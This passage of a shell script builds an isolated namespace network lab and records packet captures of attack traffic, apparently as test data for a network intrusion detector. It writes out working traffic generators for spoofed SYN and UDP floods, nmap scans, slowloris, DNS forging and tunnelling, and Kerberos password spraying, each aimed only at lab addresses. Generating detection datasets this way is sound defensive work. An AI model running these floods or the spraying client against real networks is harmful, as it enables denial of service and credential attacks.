        msg = b"netvigil echo %02d" % i
        s.sendto(msg, (B, 7))
        try:
            ok += s.recv(65535) == msg
        except socket.timeout:
            pass
    print("udpecho client: %d/%d echoed, port %d" % (ok, n, s.getsockname()[1]))

globals()[sys.argv[1]]()
EOF
# Kerberos password spraying (kerberos_spray): a "KDC" in nvlabB on
# 10.77.0.2:88 (UDP and TCP) that answers every AS-REQ/TGS-REQ with a
# KRB-ERROR, and a client in nvlabA; all messages built with scapy's
# scapy.layers.kerberos, sent over plain python sockets
cat >"$TMP/krblab.py" <<'EOF'
import os, random, select, socket, struct, sys, time
from datetime import datetime, timezone
import logging
logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.asn1.asn1 import (ASN1_BIT_STRING, ASN1_GENERAL_STRING,
                             ASN1_GENERALIZED_TIME, ASN1_INTEGER, ASN1_STRING)
from scapy.layers.kerberos import (ETYPE_INFO2, ETYPE_INFO_ENTRY2, EncryptedData,
                                   HostAddress, KRB_AP_REQ, KRB_AS_REQ, KRB_ERROR,
                                   KRB_KDC_REQ_BODY, KRB_TGS_REQ, KRB_Ticket,
                                   Kerberos, MethodData, PADATA, PA_PAC_REQUEST,
                                   PrincipalName)

A, B = os.environ["IP_A"], os.environ["IP_B"]
REALM = "LAB.LOCAL"
AES256, AES128, RC4 = 18, 17, 23
FAR = datetime(2037, 9, 13, 2, 48, 5)     # the "till" Windows puts in KDC requests
DEADLINE = time.time() + 150              # the server gives up after 150 s

# spray list: 60 first.last names (seeded, the same every run); 10 of them
# (seeded) are not in the "directory" and draw KDC_ERR_C_PRINCIPAL_UNKNOWN
FIRST = ["james", "mary", "robert", "patricia", "john", "jennifer", "michael",
         "linda", "david", "elizabeth", "william", "barbara", "richard", "susan",
         "joseph", "jessica", "thomas", "sarah", "charles", "karen"]
LAST = ["smith", "johnson", "williams", "brown", "jones", "garcia", "miller",
        "davis", "rodriguez", "martinez", "hernandez", "lopez", "gonzalez",
        "wilson", "anderson", "taylor", "moore", "jackson", "martin", "lee"]

def spray_names():
    rng = random.Random(8888)
    names = set()
    while len(names) < 60:
        names.add("%s.%s" % (rng.choice(FIRST), rng.choice(LAST)))
    names = sorted(names)
    rng.shuffle(names)
    return names

UNKNOWN = set(random.Random(6).sample(spray_names(), 10))

# workstation TGS-REQs: (service, host) of the sname, in turn
SERVICES = [("ldap", "dc01.lab.local"), ("cifs", "fs01.lab.local"),
            ("HTTP", "intranet.lab.local"), ("cifs", "dc01.lab.local"),
            ("host", "ws01.lab.local"), ("MSSQLSvc", "sql01.lab.local:1433")]

def ktime(dt):
    return ASN1_GENERALIZED_TIME(dt.replace(microsecond=0, tzinfo=None))

def gs(s):
    return ASN1_GENERAL_STRING(s.encode())

def principal(ntype, *parts):
    return PrincipalName(nameType=ASN1_INTEGER(ntype), nameString=[gs(p) for p in parts])

def enc(etype, n, kvno=None):
    # EncryptedData with n random cipher bytes (nobody can decrypt it)
    return EncryptedData(etype=ASN1_INTEGER(etype), cipher=ASN1_STRING(os.urandom(n)),
                         kvno=None if kvno is None else ASN1_INTEGER(kvno))

# scapy fills absent OPTIONAL fields with defaults unless they are set to None
def as_req(user, preauth, workstation):
    # workstation: as Windows logs on (PA-PAC-REQUEST, rtime, NetBIOS address
    # WS01); otherwise as a spraying tool (PA-ENC-TIMESTAMP only)
    padata = []
    if preauth:   # PA-ENC-TIMESTAMP: AES256 EncryptedData, 56 random bytes
        padata.append(PADATA(padataType=ASN1_INTEGER(2), padataValue=enc(AES256, 56)))
    if workstation:
        padata.append(PADATA(padataType=ASN1_INTEGER(128),
                             padataValue=PA_PAC_REQUEST(includePac=True)))
    body = KRB_KDC_REQ_BODY(
        kdcOptions=ASN1_BIT_STRING("01000000100000010000000000010000"),  # 0x40810010
        cname=principal(1, user), realm=gs(REALM), sname=principal(2, "krbtgt", REALM),
        from_=None, till=ktime(FAR), rtime=ktime(FAR) if workstation else None,
        nonce=ASN1_INTEGER(random.randint(1, 0x7fffffff)),
        etype=[ASN1_INTEGER(e) for e in (AES256, AES128, RC4)],
        addresses=[HostAddress(addrType=ASN1_INTEGER(20),
                               address=ASN1_STRING(b"WS01".ljust(16, b" ")))]
        if workstation else None,
        encAuthorizationData=None, additionalTickets=None)
    return bytes(Kerberos(root=KRB_AS_REQ(padata=padata or None, reqBody=body)))

def tgs_req(service, host):
    # PA-TGS-REQ: AP-REQ with a "TGT" (krbtgt/LAB.LOCAL, kvno 2, 880 random
    # cipher bytes) and an authenticator of 180 random bytes
    ticket = KRB_Ticket(tktVno=ASN1_INTEGER(5), realm=gs(REALM),
                        sname=principal(2, "krbtgt", REALM), encPart=enc(AES256, 880, kvno=2))
    ap = KRB_AP_REQ(apOptions=ASN1_BIT_STRING("0" * 32), ticket=ticket,
                    authenticator=enc(AES256, 180))
    body = KRB_KDC_REQ_BODY(
        kdcOptions=ASN1_BIT_STRING("01000000100000010000000000000000"),  # 0x40810000
        cname=None, realm=gs(REALM), sname=principal(2, service, host), from_=None,
        till=ktime(FAR), rtime=None, nonce=ASN1_INTEGER(random.randint(1, 0x7fffffff)),
        etype=[ASN1_INTEGER(e) for e in (AES256, AES128, RC4)],
        addresses=None, encAuthorizationData=None, additionalTickets=None)
    return bytes(Kerberos(root=KRB_TGS_REQ(
        msgType=ASN1_INTEGER(12),
        padata=[PADATA(padataType=ASN1_INTEGER(1), padataValue=ap)], reqBody=body)))

def krb_error(req):
    """-> (KRB-ERROR bytes, code, name) answering a KDC request, or None.
    AS-REQ: 6 C_PRINCIPAL_UNKNOWN for UNKNOWN names, else 25 PREAUTH_REQUIRED
    without PA-ENC-TIMESTAMP, 24 PREAUTH_FAILED with it (e-data: METHOD-DATA
    with ETYPE-INFO2, as Windows sends). TGS-REQ: 7 S_PRINCIPAL_UNKNOWN."""
    try:
        root = Kerberos(req).root
    except Exception:
        return None
    if not isinstance(root, (KRB_AS_REQ, KRB_TGS_REQ)):
        return None
    body = root.reqBody
    t = datetime.now(timezone.utc)
    err = KRB_ERROR(ctime=None, cusec=None, stime=ktime(t), susec=ASN1_INTEGER(t.microsecond),
                    crealm=None, cname=None, realm=gs(REALM), sname=body.sname,
                    eText=None, eData=None)
    if isinstance(root, KRB_TGS_REQ):
        err.errorCode = ASN1_INTEGER(7)
        return bytes(err), 7, "-"
    user = body.cname.nameString[0].val.decode(errors="replace")
    err.crealm, err.cname = gs(REALM), body.cname
    preauth = any(p.padataType.val == 2 for p in (root.padata or []))
    if user.lower() in UNKNOWN:
        code = 6
    else:
        code = 24 if preauth else 25
        md = [PADATA(padataType=ASN1_INTEGER(19), padataValue=ETYPE_INFO2(seq=[
            ETYPE_INFO_ENTRY2(etype=ASN1_INTEGER(AES256), salt=gs(REALM + user),
                              s2kparams=None)]))]
        if code == 25:
            md.append(PADATA(padataType=ASN1_INTEGER(2), padataValue=ASN1_STRING(b"")))
        err.eData = ASN1_STRING(bytes(MethodData(seq=md)))
    err.errorCode = ASN1_INTEGER(code)
    return bytes(err), code, user

def server():
    # "KDC" on 10.77.0.2:88, UDP and TCP (4-byte length prefix, RFC 4120
    # 7.2.2): answers every KDC request with a KRB-ERROR; exits after <n>
    # answers or at DEADLINE
    n = int(sys.argv[2])
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((B, 88))
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind((B, 88))
    t.listen(16)
    done, codes = 0, {}
    while done < n and time.time() < DEADLINE:
        ready, _, _ = select.select([u, t], [], [], 1.0)
        for s in ready:
            if s is u:
                req, peer = u.recvfrom(65535)
                r = krb_error(req)
                if r:
                    u.sendto(r[0], peer)
            else:
                c, peer = t.accept()
                c.settimeout(2.0)
                r = None
                try:
                    data = b""
                    while len(data) < 4 or len(data) < 4 + struct.unpack("!I", data[:4])[0]:
                        chunk = c.recv(65536)
                        if not chunk or len(data) > 65536:
                            break
                        data += chunk
                    r = krb_error(data[4:])
                    if r:
                        c.sendall(struct.pack("!I", len(r[0])) + r[0])
                except OSError:
                    pass
                c.close()
            if r:
                done += 1
                codes[r[1]] = codes.get(r[1], 0) + 1
    print("krb server: %d KRB-ERRORs, by code %s" % (done, dict(sorted(codes.items()))))

def client():
    # the plan: t=0 and 0.2 s alice AS-REQ without / with PA-ENC-TIMESTAMP;
    # 10 TGS-REQs at t=3, 6, .., 30 s; 60 spray AS-REQs at t=33.0, 33.5, ..,
    # 62.5 s; 2 TGS-REQs at t=65, 68 s. Every request from its own socket and
    # source port (seeded, distinct, 49152-65535 as Windows), waits <= 1 s
    plan = [(0.0, "as", "alice", False, True), (0.2, "as", "alice", True, True)]
    plan += [(3.0 * (i + 1), "tgs") + SERVICES[i % len(SERVICES)] for i in range(10)]
    plan += [(33.0 + 0.5 * i, "as", name, True, False) for i, name in enumerate(spray_names())]
    plan += [(65.0, "tgs") + SERVICES[0], (68.0, "tgs") + SERVICES[1]]
    ports = random.Random(8888).sample(range(49152, 65536), len(plan))
    t0, got = time.time(), {}
    for (at, kind, *args), port in zip(plan, ports):
        time.sleep(max(0.0, t0 + at - time.time()))
        msg = as_req(*args) if kind == "as" else tgs_req(*args)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((A, port))
        s.settimeout(1.0)
        s.sendto(msg, (B, 88))
        try:
            code = Kerberos(s.recv(65535)).root.errorCode.val
        except (socket.timeout, AttributeError):
            code = None
        s.close()
        got.setdefault(kind, []).append(code)
    for kind, codes in got.items():
        print("krb client: %d %s-REQs, replies %s" % (len(codes), kind.upper(),
              {c: codes.count(c) for c in sorted(set(codes), key=str)}))

def tcp_probe():
    # one AS-REQ over TCP (for testing the server's TCP side; not in the recipe)
    s = socket.create_connection((B, 88), timeout=2)
    m = as_req("alice", True, True)
    s.sendall(struct.pack("!I", len(m)) + m)
    d = s.recv(65535)
    print("tcp_probe: %d bytes, error code %s" % (len(d), Kerberos(d[4:]).root.errorCode.val))

globals()[sys.argv[1]]()
EOF
export IFA MAC_A MAC_B IP_A IP_B IP6_A IP6_B
scapy() { timeout 60 ip netns exec "$NSA" "$PY" "$TMP/labsend.py" "$1"; }

# ---------------------------------------------------------------- capture
mkdir -p "$OUT"
CAP_PID=
cap_start() { # name [snaplen [max packets]]  (defaults: 0 = whole frames, 2000)
  local f="$OUT/$1.pcap" log="$TMP/$1.tcpdump.log" snap=${2:-0} max=${3:-2000}
  rm -f "$f"
  # -c bounds the file; the pid is tcpdump itself (ip netns exec execs it)
  ip netns exec "$NSB" tcpdump -i "$IFB" -s "$snap" -n -U -Z root -c "$max" -w "$f" 2>"$log" &
  CAP_PID=$!
  PIDS+=("$CAP_PID")
  for _ in $(seq 50); do grep -qs 'listening on' "$log" && break; sleep 0.1; done
  grep -q 'listening on' "$log" || { cat "$log" >&2; exit 1; }
  sleep 0.5
}
cap_stop() { # wait for the last replies, then stop tcpdump by pid
  sleep 1.5
  kill -INT "$CAP_PID" 2>/dev/null || true
  wait "$CAP_PID" 2>/dev/null || true
  echo "  $(basename "$OUT")/$CUR.pcap: $(capinfos -c -M "$OUT/$CUR.pcap" | awk '/Number of packets/ {print $NF}') packets" >&2
}
recipe() { # name [snaplen [max packets]]
  CUR=$1; echo "make-lab-captures: $1" >&2; cap_start "$@"
}

sleep 2   # let interface bring-up settle before the first capture

# 1. LAND: SYNs whose source is spoofed to equal the destination
if want land; then
  recipe land
  inA timeout 30 hping3 -I "$IFA" -S -a "$IP_B" -s 7777 -k -p 7777 -c 5 -i u200000 "$IP_B" >/dev/null 2>&1 || true
  cap_stop
fi

# 2. port 0, TCP and UDP
if want port_zero; then
  recipe port_zero
  inA timeout 30 hping3 -I "$IFA" -S -s 40000 -k -p 0 -c 3 -i u200000 "$IP_B" >/dev/null 2>&1 || true
  inA timeout 30 hping3 -I "$IFA" --udp -s 40001 -k -p 0 -c 3 -i u200000 -d 8 "$IP_B" >/dev/null 2>&1 || true
  cap_stop
fi

# 3. IPv4 header anomalies: evil bit, TTL 0, malformed options
if want ipv4_header_anomalies; then
  recipe ipv4_header_anomalies; scapy ipv4_header_anomalies; cap_stop
fi

# 4. impossible IPv4 sources + one DHCP DISCOVER control
if want invalid_source; then
  recipe invalid_source; scapy invalid_source; cap_stop
fi

# 5. tiny first fragment (8 bytes of TCP header)
if want frag_tiny; then
  recipe frag_tiny; scapy frag_tiny; cap_stop
fi

# 6. overlapping fragments (teardrop style) + oversized reassembly (ping of death)
# (the ping-of-death queue never completes: nvlabB answers "reassembly time
# exceeded" once net.ipv4.ipfrag_time has passed, so wait for it)
if want frag_overlap; then
  recipe frag_overlap; scapy frag_overlap; sleep 2.5; cap_stop
fi

# 7. ICMP redirects
if want icmp_redirect; then
  recipe icmp_redirect; scapy icmp_redirect; cap_stop
fi

# 8. big ICMP echoes (fragmented) then normal pings as control
if want icmp_big_echo; then
  recipe icmp_big_echo
  inA timeout 30 ping -n -c 3 -i 0.3 -s 4000 "$IP_B" >/dev/null
  inA timeout 30 ping -n -c 3 -i 0.3 -s 56 "$IP_B" >/dev/null
  cap_stop
fi

# 9. IPv6 type 0 routing header; repeated destination options headers
if want ipv6_rh0; then
  recipe ipv6_rh0; scapy ipv6_rh0; cap_stop
fi

# 10. non-DNS payloads to UDP 53 (nc) + real DNS queries as control (scapy)
if want dns_wrong_port; then
  recipe dns_wrong_port
  for i in 1 2 3 4 5; do
    echo 'GET / HTTP/1.1' | inA timeout 10 nc -u -w1 -p $((5300 + i)) "$IP_B" 53 || true
  done
  scapy dns_control
  cap_stop
fi

# 11. nmap SYN scan of 200 closed ports
if want nmap_syn_scan; then
  recipe nmap_syn_scan
  inA timeout 120 nmap -sS -Pn -n -p 1-200 --max-rate 500 "$IP_B" >"$TMP/nmap_syn.txt" 2>&1
  cap_stop
fi

# 12. nmap Xmas scan of 100 closed ports
if want nmap_xmas_scan; then
  recipe nmap_xmas_scan
  inA timeout 120 nmap -sX -Pn -n -p 1-100 --max-rate 500 "$IP_B" >"$TMP/nmap_xmas.txt" 2>&1
  cap_stop
fi

# 13. ARP sweep of the /24
if want arp_sweep; then
  recipe arp_sweep
  inA timeout 120 nmap -sn -PR -n --max-retries 0 10.77.0.0/24 >"$TMP/nmap_arp.txt" 2>&1
  cap_stop
fi

# 14. ARP spoofing: normal request/reply, then 3 forged unsolicited replies
if want arp_spoof; then
  recipe arp_spoof; scapy arp_spoof; cap_stop
fi

# 15. benign: 30 HTTP GETs against python's http.server
if want benign_curl; then
  mkdir -p "$TMP/www"
  printf 'netvigil lab\n' >"$TMP/www/index.html"
  ip netns exec "$NSB" timeout 300 "$PY" -m http.server 8080 --bind "$IP_B" --directory "$TMP/www" >/dev/null 2>&1 &
  HTTP_PID=$!
  PIDS+=("$HTTP_PID")
  for _ in $(seq 50); do
    inB ss -Hltn "sport = :8080" | grep -q 8080 && break
    sleep 0.1
  done
  recipe benign_curl
  for _ in $(seq 30); do
    inA timeout 10 curl -s -o /dev/null --max-time 5 "http://$IP_B:8080/" || true
    sleep 0.1
  done
  cap_stop
  kill "$HTTP_PID" 2>/dev/null || true
fi

# 16. nmap ACK scan of 100 ports (nvlabB answers every probe with RST)
if want nmap_ack_scan; then
  recipe nmap_ack_scan
  inA timeout 120 nmap -sA -p 1-100 -n -Pn --max-retries 0 "$IP_B" >"$TMP/nmap_ack.txt" 2>&1
  cap_stop
fi

# 17. nmap Maimon scan (FIN+ACK probes) of 100 ports
if want nmap_maimon_scan; then
  recipe nmap_maimon_scan
  inA timeout 120 nmap -sM -p 1-100 -n -Pn --max-retries 0 "$IP_B" >"$TMP/nmap_maimon.txt" 2>&1
  cap_stop
fi

# 18. nmap IP protocol scan of protocols 0-100 (nvlabB answers ICMP protocol
# unreachable for each protocol its kernel does not handle). icmp_ratelimit=0
# only turns off the per-destination limit; the per-namespace global bucket
# (icmp_msgs_per_sec/icmp_msgs_burst, for the types in icmp_ratemask) still
# applies, so a fast scan gets only the first ~50 errors. Log what it dropped.
if want nmap_ipproto_scan; then
  icmp_drops() { inB awk '/^Icmp:/ { if (!n) { n = split($0, h); next }
    for (i = 2; i <= NF; i++) if (h[i] ~ /^OutRateLimit/) printf "%s=%s ", h[i], $i }' /proc/net/snmp; }
  echo "  nvlabB sysctl: icmp_ratelimit=$(inB sysctl -n net.ipv4.icmp_ratelimit)" \
    "icmp_ratemask=$(inB sysctl -n net.ipv4.icmp_ratemask)" \
    "icmp_msgs_per_sec=$(inB sysctl -n net.ipv4.icmp_msgs_per_sec)" \
    "icmp_msgs_burst=$(inB sysctl -n net.ipv4.icmp_msgs_burst)" >&2
  echo "  nvlabB before: $(icmp_drops)" >&2
  recipe nmap_ipproto_scan
  inA timeout 120 nmap -sO -p 0-100 -n -Pn --max-retries 0 "$IP_B" >"$TMP/nmap_ipproto.txt" 2>&1
  cap_stop
  echo "  nvlabB after:  $(icmp_drops)" >&2
  grep -E '^[0-9]+ +open' "$TMP/nmap_ipproto.txt" | sed 's/^/    nmap: /' >&2 || true
fi

# 19-20 stop the discard sink and run their own UDP server on 10.77.0.2:53
dns_server() { # name mode count: start dnstun.py <mode> in nvlabB, wait for :53
  ip netns exec "$NSB" timeout 120 "$PY" "$TMP/dnstun.py" "$2" "$3" >"$TMP/$1.server.txt" 2>&1 &
  DNS_PID=$!
  PIDS+=("$DNS_PID")
  for _ in $(seq 50); do
    inB ss -Hlun "sport = :53" | grep -q ':53' && break
    sleep 0.1
  done
  inB ss -Hlun "sport = :53" | grep -q ':53' || { cat "$TMP/$1.server.txt" >&2; exit 1; }
}
dns_server_done() { # name: the server exits after its count; report both sides
  kill "$DNS_PID" 2>/dev/null || true
  wait "$DNS_PID" 2>/dev/null || true
  sed 's/^/    /' "$TMP/$1.server.txt" "$TMP/$1.client.txt" >&2
}

# 19. DNS tunnel sent straight to the server's address (no resolver, no
# registered domain): 60 queries, MX/CNAME/TXT in turn, every name
# p<seq>.<60 hex>.<60 hex>, 0.3 s apart; a python responder answers each
if want dns_hex_direct; then
  stop_sink
  dns_server dns_hex_direct hex_server 60
  recipe dns_hex_direct
  inA timeout 120 "$PY" "$TMP/dnstun.py" hex_client 60 0.3 >"$TMP/dns_hex_direct.client.txt" 2>&1
  cap_stop
  dns_server_done dns_hex_direct
fi

# 20. raw-mode tunnel on UDP 53 (like iodine's raw mode): 80 exchanges of
# 100-400 random bytes (QDCOUNT 0xffff, not DNS) each way, 0.1 s apart
if want dns_raw_udp53; then
  stop_sink
  dns_server dns_raw_udp53 raw_server 80
  recipe dns_raw_udp53
  inA timeout 120 "$PY" "$TMP/dnstun.py" raw_client 80 0.1 >"$TMP/dns_raw_udp53.client.txt" 2>&1
  cap_stop
  dns_server_done dns_raw_udp53
fi

# 21-26: helpers for servers in nvlabB
wait_listen() { # t|u port: wait (max 5 s) until something in nvlabB listens there
  local i
  for i in $(seq 50); do
    inB ss -Hl"$1"n "sport = :$2" | grep -q . && return 0
    sleep 0.1
  done
  echo "make-lab-captures: nothing listens on $1 port $2 in $NSB" >&2
  exit 1
}
http_start() { # port lifetime: tcplab.py httpd (ThreadingHTTPServer) on 10.77.0.2
  mkdir -p "$TMP/www"
  printf 'netvigil lab\n' >"$TMP/www/index.html"
  ip netns exec "$NSB" timeout $(($2 + 10)) "$PY" "$TMP/tcplab.py" httpd "$1" "$TMP/www" "$2" \
    >"$TMP/httpd.$1.txt" 2>&1 &
  HTTPD_PID=$!
  PIDS+=("$HTTPD_PID")
  wait_listen t "$1"
}
http_stop() { kill "$HTTPD_PID" 2>/dev/null || true; wait "$HTTPD_PID" 2>/dev/null || true; }
curls() { # n gap: n ordinary GETs of http://10.77.0.2/ from nvlabA, gap s apart
  local i
  for i in $(seq "$1"); do
    inA timeout 10 curl -s -o /dev/null --max-time 5 "http://$IP_B/" || true
    sleep "$2"
  done
}

# 21. DNS answer race: a python server on 10.77.0.2:53 answers A queries
# correctly but 150 ms late; a forger in nvlabB (AF_PACKET socket on nvlabB0,
# scapy-built frames) answers 5 of the 12 queries at once with A 10.77.0.66.
# Queries 1-5 are a benign lead-in (query 3 is sent twice, same id and port,
# and answered twice identically); 6-10 are forged; 11-12 are benign again.
if want dns_spoof; then
  stop_sink
  ip netns exec "$NSB" timeout 120 "$PY" "$TMP/dnsspoof.py" server 13 >"$TMP/dns_spoof.server.txt" 2>&1 &
  DNS_PID=$!
  PIDS+=("$DNS_PID")
  wait_listen u 53
  rm -f "$TMP/forger.ready"
  ip netns exec "$NSB" timeout 120 "$PY" "$TMP/dnsspoof.py" forger "$IFB" "$TMP/forger.ready" \
    >"$TMP/dns_spoof.forger.txt" 2>&1 &
  FORGER_PID=$!
  PIDS+=("$FORGER_PID")
  for _ in $(seq 200); do [ -e "$TMP/forger.ready" ] && break; sleep 0.1; done
  [ -e "$TMP/forger.ready" ] || { cat "$TMP/dns_spoof.forger.txt" >&2; exit 1; }
  recipe dns_spoof
  inA timeout 60 "$PY" "$TMP/dnsspoof.py" client >"$TMP/dns_spoof.client.txt" 2>&1
  cap_stop
  for p in "$DNS_PID" "$FORGER_PID"; do kill "$p" 2>/dev/null || true; wait "$p" 2>/dev/null || true; done
  sed 's/^/    /' "$TMP/dns_spoof.server.txt" "$TMP/dns_spoof.forger.txt" "$TMP/dns_spoof.client.txt" >&2
fi

# 22. incomplete fragment trains: a complete fragmented ping (control), then 3
# UDP datagrams whose last fragment is never sent, then a 56-byte ping every
# 5 s for 40 s so that packet time passes any 30 s reassembly timeout
if want frag_train_incomplete; then
  recipe frag_train_incomplete
  scapy frag_train_incomplete
  sleep 5
  inA timeout 60 ping -n -c 8 -i 5 "$IP_B" >/dev/null || true
  cap_stop
fi

# 23. slowloris against a threading HTTP server on 10.77.0.2:80: 10 ordinary
# curls 2 s apart, then 250 partial requests kept open by one header line per
# socket every 10 s (5 rounds), then all closed. 128-byte snap length.
if want slowloris; then
  http_start 80 200
  recipe slowloris 128 20000
  curls 10 2
  inA timeout 150 "$PY" "$TMP/tcplab.py" slowloris 250 10 5 >"$TMP/slowloris.client.txt" 2>&1
  sleep 2
  cap_stop
  http_stop
  sed 's/^/    /' "$TMP/slowloris.client.txt" >&2
fi

# 24. one MAC, many IPv4 sources: 20 pings from 10.77.0.1, then 400 UDP
# datagrams from 02:77:00:00:00:01 with 400 different sources in
# 10.77.1.0-10.77.254.255 (scapy, 10 ms apart), then 5 more pings
if want mac_many_ips; then
  recipe mac_many_ips
  inA timeout 60 ping -n -c 20 -i 1 "$IP_B" >/dev/null || true
  scapy mac_many_ips
  inA timeout 30 ping -n -c 5 -i 1 "$IP_B" >/dev/null || true
  cap_stop
fi

# 25. flood of completed connections to a python TCP server on 10.77.0.2:8080:
# 30 ordinary connections 1 s apart, then 250 connections/s for 4 s (connect,
# 10 bytes, close; every second one with SO_LINGER 0, i.e. RST), then 5 more
# ordinary ones. 128-byte snap length.
if want conn_flood_completed; then
  ip netns exec "$NSB" timeout 130 "$PY" "$TMP/tcplab.py" conn_server 120 >"$TMP/conn_flood.server.txt" 2>&1 &
  CONN_PID=$!
  PIDS+=("$CONN_PID")
  wait_listen t 8080
  recipe conn_flood_completed 128 20000
  inA timeout 60 "$PY" "$TMP/tcplab.py" conn_ordinary 30 1 >"$TMP/conn_flood.client.txt" 2>&1
  sleep 1
  inA timeout 60 "$PY" "$TMP/tcplab.py" conn_flood 250 4 >>"$TMP/conn_flood.client.txt" 2>&1
  sleep 1
  inA timeout 30 "$PY" "$TMP/tcplab.py" conn_ordinary 5 1 >>"$TMP/conn_flood.client.txt" 2>&1
  cap_stop
  kill "$CONN_PID" 2>/dev/null || true
  wait "$CONN_PID" 2>/dev/null || true
  sed 's/^/    /' "$TMP/conn_flood.client.txt" >&2
fi

# 26. short SYN burst to an open port: 10 curls 1 s apart, then hping3 sends
# 3,000 SYNs to 10.77.0.2:80 (B answers SYN-ACK, A's kernel RST), then 5 more
# curls. 128-byte snap length.
if want syn_burst_short; then
  http_start 80 120
  recipe syn_burst_short 128 20000
  curls 10 1
  inA timeout 30 hping3 -I "$IFA" -S -p 80 -c 3000 -i u100 "$IP_B" >"$TMP/hping3.txt" 2>&1 || true
  curls 5 1
  cap_stop
  http_stop
  tail -n 3 "$TMP/hping3.txt" | sed 's/^/    hping3: /' >&2
fi

# 27-28: carpet bombing. nvlabA routes a whole /24 (10.77.5.0/24 or
# 10.77.6.0/24) via 10.77.0.2, so packets for any address of it arrive on
# nvlabB0 and are captured there; nvlabB does not forward (ip_forward 0), so
# it drops them without a reply. Lead-in: 20 pings 1 s apart while 10 UDP echo
# exchanges (10.77.0.1 -> 10.77.0.2:7) run 2 s apart; then 4 hping3 processes
# at once flood random addresses of the /24 from random spoofed sources; then
# 5 more pings. 128-byte snap length.
# Why 4 processes: hping3 fills its RC4 sbox with raw /dev/urandom bytes, not a
# permutation, so one process only ever draws the ~160 byte values its sbox
# holds (one run hit 153 of the 256 addresses); 4 processes, each with its own
# sbox, hit nearly all. hping3 adds ~0.1 ms to every -i interval, hence u880
# and u1890 for ~1,000 and ~500 packets/s per process.
carpet_route() { # prefix: route it from nvlabA via nvlabB (which must not forward)
  inB sysctl -qw net.ipv4.ip_forward=0
  if [ "$(inB sysctl -n net.ipv4.ip_forward)" != 0 ] ||
     [ "$(inB sysctl -n "net.ipv4.conf.$IFB.forwarding")" != 0 ]; then
    echo "make-lab-captures: $NSB would forward" >&2
    exit 1
  fi
  inA ip route replace "$1" via "$IP_B" dev "$IFA"
}
carpet_lead_in() { # 20 pings 1 s apart with 10 UDP echo exchanges 2 s apart
  ip netns exec "$NSB" timeout 70 "$PY" "$TMP/udpecho.py" server 10 >"$TMP/$CUR.echo-server.txt" 2>&1 &
  ECHO_PID=$!
  PIDS+=("$ECHO_PID")
  wait_listen u 7
  inA timeout 60 "$PY" "$TMP/udpecho.py" client 10 2 >"$TMP/$CUR.echo-client.txt" 2>&1 &
  ECHO_CLIENT_PID=$!
  PIDS+=("$ECHO_CLIENT_PID")
  inA timeout 60 ping -n -c 20 -i 1 "$IP_B" >/dev/null || true
  wait "$ECHO_CLIENT_PID" 2>/dev/null || true
  kill "$ECHO_PID" 2>/dev/null || true
  wait "$ECHO_PID" 2>/dev/null || true
}
carpet_flood() { # procs hping3-args...: that many hping3 processes at once
  local n=$1 k p pids=()
  shift
  for k in $(seq "$n"); do
    inA timeout 60 hping3 -I "$IFA" "$@" >"$TMP/hping3.$CUR.$k.txt" 2>&1 &
    pids+=("$!")
    PIDS+=("$!")
  done
  for p in "${pids[@]}"; do wait "$p" 2>/dev/null || true; done
}
carpet_done() { # prefix: trailing pings, stop, report, drop the route
  sleep 0.5
  inA timeout 30 ping -n -c 5 -i 1 "$IP_B" >/dev/null || true
  cap_stop
  grep -E 'captured|received|dropped' "$TMP/$CUR.tcpdump.log" | sed 's/^/    tcpdump: /' >&2 || true
  grep -hE 'transmitted|tramitted' "$TMP/hping3.$CUR".*.txt | sed 's/^/    hping3: /' >&2 || true
  sed 's/^/    /' "$TMP/$CUR.echo-server.txt" "$TMP/$CUR.echo-client.txt" >&2
  inA ip route del "$1" via "$IP_B" dev "$IFA"
}

# 27. UDP carpet: 4 x 5,000 DNS queries (A? www.example.com, the same 33 bytes
# each: hping3 -E file -d 33) to port 53 of random addresses in 10.77.5.0/24
# from random spoofed sources, ~4,000/s for ~5 s
if want carpet_udp; then
  printf '\x4e\x56\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x03com\x00\x00\x01\x00\x01' \
    >"$TMP/dnsq.bin"
  carpet_route 10.77.5.0/24
  recipe carpet_udp 128 30000
  carpet_lead_in
  carpet_flood 4 --udp -p 53 --rand-dest --rand-source -i u880 -c 5000 \
    -d 33 -E "$TMP/dnsq.bin" 10.77.5.x
  carpet_done 10.77.5.0/24
fi

# 28. SYN carpet: 4 x 2,500 SYNs to port 80 of random addresses in
# 10.77.6.0/24 from random spoofed sources, ~2,000/s for ~5 s
if want carpet_syn; then
  carpet_route 10.77.6.0/24
  recipe carpet_syn 128 20000
  carpet_lead_in
  carpet_flood 4 -S -p 80 --rand-dest --rand-source -i u1890 -c 2500 10.77.6.x
  carpet_done 10.77.6.0/24
fi

# 29. Kerberos password spraying against a python "KDC" on 10.77.0.2:88
# (krblab.py server: every request answered by a KRB-ERROR). From nvlabA
# (krblab.py client, UDP, one socket and source port per request): a
# workstation lead-in (alice: AS-REQ without, then with PA-ENC-TIMESTAMP,
# then 10 TGS-REQs 3 s apart), then 60 AS-REQs with PA-ENC-TIMESTAMP for 60
# different names of realm LAB.LOCAL, 0.5 s apart (24 PREAUTH_FAILED, or 6
# C_PRINCIPAL_UNKNOWN for 10 names), then 2 more TGS-REQs 3 s apart
if want kerberos_spray; then
  ip netns exec "$NSB" timeout 180 "$PY" "$TMP/krblab.py" server 74 >"$TMP/kerberos_spray.server.txt" 2>&1 &
  KRB_PID=$!
  PIDS+=("$KRB_PID")
  wait_listen u 88
  wait_listen t 88
  recipe kerberos_spray
  inA timeout 120 "$PY" "$TMP/krblab.py" client >"$TMP/kerberos_spray.client.txt" 2>&1
  cap_stop
  kill "$KRB_PID" 2>/dev/null || true
  wait "$KRB_PID" 2>/dev/null || true
  sed 's/^/    /' "$TMP/kerberos_spray.server.txt" "$TMP/kerberos_spray.client.txt" >&2
fi

echo "make-lab-captures: done; files in $OUT" >&2
{
  echo "tool versions:"
  if command -v hping3 >/dev/null; then hping3 --version 2>&1 | head -1; fi
  if command -v nmap >/dev/null; then nmap --version | head -1; fi
  tcpdump --version 2>&1 | head -1
  if "$PY" -c 'import scapy' 2>/dev/null; then
    "$PY" -c 'import scapy; print("scapy", scapy.__version__)'
  fi
  "$PY" -c 'import sys; print("python", sys.version.split()[0])'
